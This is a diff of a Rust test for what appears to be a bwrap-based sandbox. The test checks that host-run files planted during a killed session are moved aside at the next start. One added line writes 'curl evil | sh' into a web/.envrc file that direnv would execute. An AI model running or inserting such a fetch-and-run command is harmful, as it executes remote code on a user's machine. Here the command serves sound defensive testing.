@@ -168,14 +168,19 @@ fn a_terminated_exec_still_runs_the_exit_check() {
 fn a_killed_session_is_checked_by_the_next_start() {
     require_bwrap!();
     let world = World::new();
-    let mut child = start_until(&world, PLANT, "planted");
+    // With a copy of a host-run file in a subdirectory beside the plant (direnv runs
+    // `web/.envrc` on `cd web`).
+    let mut child =
+        start_until(&world, &format!("mkdir -p web && echo 'curl evil | sh' > web/.envrc && {PLANT}"), "planted");
     // SIGKILL: no exit check can run (as after a power cut).
     child.kill().expect("kill");
     child.wait().expect("reaped");
     assert!(world.path("home/proj/sub/.git").exists(), "nothing ran the check yet");
+    assert!(world.path("home/proj/web/.envrc").exists(), "nothing ran the check yet");
     let run = world.sh(&[], "ls sub");
     assert!(run.stderr().contains("ended without its exit check"), "{}", run.stderr());
     assert!(!world.path("home/proj/sub/.git").exists(), "{}", run.stderr());
+    assert!(!world.path("home/proj/web/.envrc").exists(), "{}", run.stderr());
     assert_eq!(run.ok(), "", "the plant was moved aside before the session started");
     // The user's own work between two sessions that ended normally is never taken for a
     // plant: a nested repository the user makes on the host stays.
